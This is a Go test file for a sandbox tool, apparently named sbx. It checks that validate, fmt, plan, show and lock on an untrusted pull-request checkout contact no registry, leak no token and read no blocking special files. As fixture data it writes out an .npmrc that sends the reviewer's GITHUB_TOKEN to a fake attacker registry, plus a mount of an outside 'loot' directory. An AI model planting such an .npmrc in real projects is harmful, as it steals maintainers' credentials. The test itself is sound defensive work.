package command

import (
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/sbx-dev/sbx/internal/build/npmreg"
	"github.com/sbx-dev/sbx/internal/lockfiles"
)

// reviewerToken is a credential in the reviewer's environment that a
// pull request's .npmrc asks for. No request and no output may carry it.
const reviewerToken = "ghp_the-reviewers-own-token"

// outsideMarker is the name of a file in a directory outside the
// checkout that a pull request mounts. No output may name it.
const outsideMarker = "reviewers-private-file-name"

// attackerRegistry plays the registry a pull request's .npmrc names: it
// records every request it gets, with its Authorization header.
type attackerRegistry struct {
	srv  *httptest.Server
	host string
	mu   sync.Mutex
	seen []string
}

func newAttackerRegistry(t *testing.T) *attackerRegistry {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.9:0")
	if err != nil {
		if l, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
			t.Fatal(err)
		}
	}
	a := &attackerRegistry{host: l.Addr().String()}
	a.srv = &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.seen = append(a.seen, r.Method+" "+r.URL.String()+" Authorization="+r.Header.Get("Authorization"))
		a.mu.Unlock()
		http.NotFound(w, r)
	})}}
	a.srv.Start()
	t.Cleanup(a.srv.Close)
	return a
}

// take returns the requests recorded since the last call.
func (a *attackerRegistry) take() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	seen := a.seen
	a.seen = nil
	return seen
}

// prSpec is what the pull request adds beside the fixture spec: an image
// with an npm artifact from the attacker's scope, and a sandbox that
// mounts a directory outside the checkout with every file hidden (so
// that the plan would list them all).
func (f *fixture) prSpec(outside string) string {
	return `image "evil" {
  platform = "linux/amd64"
  base     = "` + f.reg + `/test/base:v1"

  artifact "tool" {
    source = "npm:@evil/tool@1.0.0"
    file   = "package/bin/tool"
    dest   = "/usr/local/bin/tool"
  }
}

vfs "loot" {
  mount "/loot" {
    host = "` + outside + `"
    hide = ["*"]
  }
}

sandbox "evil" {
  image = image.evil
  vfs   = [vfs.loot]
}
`
}

// untrustedCheckout makes a git repository whose HEAD is a locked
// fixture configuration, then applies a pull request's change to the
// working tree: prSpec and an .npmrc that sends the reviewer's
// GITHUB_TOKEN to the attacker's registry. It returns the configuration
// directory and the outside directory the pull request mounts.
func (f *fixture) untrustedCheckout(a *attackerRegistry) (repo, dir string) {
	f.t.Helper()
	outside := f.t.TempDir()
	writeFile(f.t, filepath.Join(outside, outsideMarker), "private\n")
	repo = f.t.TempDir()
	dir = filepath.Join(repo, "box")
	f.writeConfig(dir, specOptions{})
	f.mustRun(ExitOK, "lock", dir)
	f.gitRun(repo, "init", "-q")
	f.gitRun(repo, "add", ".")
	f.gitRun(repo, "commit", "-q", "-m", "locked configuration")

	writeFile(f.t, filepath.Join(dir, "pr.hcl"), f.prSpec(outside))
	writeFile(f.t, filepath.Join(dir, ".npmrc"), "registry=http://"+a.host+"/\n@evil:registry=http://"+a.host+"/\n//"+a.host+"/:_authToken=${GITHUB_TOKEN}\n")
	return repo, dir
}

// checkQuiet fails the test if the attacker's registry was contacted or
// an output shows the reviewer's token or the outside file's name.
func checkQuiet(t *testing.T, a *attackerRegistry, args []string, r result) {
	t.Helper()
	if got := a.take(); len(got) != 0 {
		t.Errorf("sbx %s contacted the checkout's registry: %q", strings.Join(args, " "), got)
	}
	if strings.Contains(r.stdout+r.stderr, reviewerToken) {
		t.Errorf("sbx %s printed the reviewer's token:\n%s", strings.Join(args, " "), r)
	}
	if strings.Contains(r.stdout+r.stderr, outsideMarker) {
		t.Errorf("sbx %s printed the name of a file outside the checkout:\n%s", strings.Join(args, " "), r)
	}
}

// TestUntrustedCheckoutTalksToNoOne plays a pull request that adds an npm
// artifact, an .npmrc naming its own registry with the reviewer's
// ${GITHUB_TOKEN} as its credentials, and a mount of a directory outside
// the checkout. validate, fmt, every form of plan and show contact no
// registry and print neither the token nor a file name from outside;
// plan says the lock lacks the new pin and names sbx lock. Without a lock
// file at all the pull request is compared by its specs, and the outside
// mount is shown without being read. sbx lock itself, which reads the
// project .npmrc, refuses the ${GITHUB_TOKEN} reference unless the user
// allows it (SBX_NPMRC_ENV), and contacts no one either.
func TestUntrustedCheckoutTalksToNoOne(t *testing.T) {
	f := newFixture(t)
	f.environ = append(f.environ, "GITHUB_TOKEN="+reviewerToken)
	a := newAttackerRegistry(t)
	repo, dir := f.untrustedCheckout(a)
	base := filepath.Join(t.TempDir(), "base")
	f.gitRun(repo, "worktree", "add", "-q", base, "HEAD")
	out := filepath.Join(t.TempDir(), "pr.plan")

	for _, tc := range []struct {
		args []string
		code int
		want string // in stderr
	}{
		{[]string{"validate", dir}, ExitOK, ""},
		{[]string{"fmt", "-check", "-diff", dir}, -1, ""},
		{[]string{"plan", dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"plan", "-lockfile=readonly", dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"plan", "-json", dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"plan", "-out", out, dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"plan", "-against", "HEAD", "-fail-on-widen", dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"plan", "-against", filepath.Join(base, "box"), dir}, ExitError, "Run \"sbx lock\""},
		{[]string{"show", filepath.Join(dir, lockfiles.FileName)}, ExitOK, ""},
	} {
		r := f.run(tc.args...)
		if tc.code >= 0 && r.code != tc.code {
			t.Errorf("sbx %s: want exit %d:\n%s", strings.Join(tc.args, " "), tc.code, r)
		}
		if tc.want != "" && !strings.Contains(r.stderr, tc.want) {
			t.Errorf("sbx %s does not say %q:\n%s", strings.Join(tc.args, " "), tc.want, r)
		}
		checkQuiet(t, a, tc.args, r)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("a failed plan -out wrote the plan file")
	}

	// The pull request carries no lock file: it is compared by its specs
	// with the revision, and the outside mount is shown, not read.
	if err := os.Remove(filepath.Join(dir, lockfiles.FileName)); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"plan", "-against", "HEAD", dir},
		{"plan", "-against", "HEAD", "-json", dir},
		{"plan", "-against", filepath.Join(base, "box"), "-out", out, dir},
	} {
		r := f.mustRun(ExitOK, args...)
		checkQuiet(t, a, args, r)
		if !strings.Contains(r.stdout, "not inspected") {
			t.Errorf("sbx %s does not say the outside mount was not inspected:\n%s", strings.Join(args, " "), r)
		}
	}
	r := f.mustRun(ExitOK, "show", out)
	checkQuiet(t, a, []string{"show", out}, r)
	args := []string{"plan", "-against", "HEAD", "-fail-on-widen", dir}
	r = f.mustRun(ExitError, args...)
	checkQuiet(t, a, args, r)
	if !strings.Contains(r.stderr, "widens") {
		t.Errorf("the new sandbox and mount are not widening:\n%s", r)
	}

	// sbx lock reads the project .npmrc, and refuses what it asks for.
	args = []string{"lock", dir}
	r = f.mustRun(ExitError, args...)
	checkQuiet(t, a, args, r)
	for _, want := range []string{".npmrc:3", "GITHUB_TOKEN", npmreg.ProjectEnvVar} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("sbx lock does not name %q:\n%s", want, r)
		}
	}
}

// TestPlanReadsNoNpmrc plants an .npmrc that is a named pipe (which
// blocks whoever opens it to read until something writes) and one that
// links to /dev/zero (which never ends) in a checkout whose lock lacks a
// pin: plan fails at once naming sbx lock, having read neither; sbx lock
// refuses each as not a regular file or as leading outside, also at once.
func TestPlanReadsNoNpmrc(t *testing.T) {
	f := newFixture(t)
	dir := f.writeConfig(t.TempDir(), specOptions{})
	f.mustRun(ExitOK, "lock", dir)
	f.writeConfig(dir, specOptions{toolVersion: "1.1.0"})
	npmrc := filepath.Join(dir, ".npmrc")
	for _, tc := range []struct {
		name  string
		plant func() error
		want  string
	}{
		{"fifo", func() error { return syscall.Mkfifo(npmrc, 0o644) }, "named pipe"},
		{"dev-zero", func() error { return os.Symlink("/dev/zero", npmrc) }, "outside"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			os.Remove(npmrc)
			if err := tc.plant(); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{{"plan", dir}, {"lock", dir}} {
				r := runWithin(t, f, time.Minute, args...)
				if r.code != ExitError {
					t.Errorf("sbx %s: want exit 1:\n%s", strings.Join(args, " "), r)
				}
				want := "Run \"sbx lock\""
				if args[0] == "lock" {
					want = tc.want
				}
				if !strings.Contains(r.stderr, want) {
					t.Errorf("sbx %s does not say %q:\n%s", strings.Join(args, " "), want, r)
				}
			}
		})
	}
}

// runWithin runs sbx and fails the test if it has not returned within d:
// a command blocked on a checkout's file.
func runWithin(t *testing.T, f *fixture, d time.Duration, args ...string) result {
	t.Helper()
	done := make(chan result, 1)
	go func() { done <- f.run(args...) }()
	select {
	case r := <-done:
		return r
	case <-time.After(d):
		t.Fatalf("sbx %s did not return within %v", strings.Join(args, " "), d)
	}
	return result{}
}

// TestFmtAndShowReadNoSpecialFiles plants, where fmt and show read a
// checkout's files, a named pipe and a link to /dev/zero: the spec file
// fmt is given and the lock file show is given. Each is an error naming
// the file, at once, instead of a read that blocks or never ends.
func TestFmtAndShowReadNoSpecialFiles(t *testing.T) {
	f := &fixture{t: t, environ: []string{"PATH=" + os.Getenv("PATH")}}
	for _, tc := range []struct {
		name, want string
		plant      func(path string) error
	}{
		{"fifo", "named pipe", func(p string) error { return syscall.Mkfifo(p, 0o644) }},
		{"dev-zero", "outside", func(p string) error { return os.Symlink("/dev/zero", p) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			spec := filepath.Join(dir, "main.hcl")
			lock := filepath.Join(dir, lockfiles.FileName)
			for _, p := range []string{spec, lock} {
				if err := tc.plant(p); err != nil {
					t.Fatal(err)
				}
			}
			for _, args := range [][]string{{"fmt", "-check", spec}, {"show", lock}} {
				r := runWithin(t, f, time.Minute, args...)
				if r.code != ExitError || !strings.Contains(r.stderr, tc.want) {
					t.Errorf("sbx %s: want exit 1 and %q:\n%s", strings.Join(args, " "), tc.want, r)
				}
			}
		})
	}
}
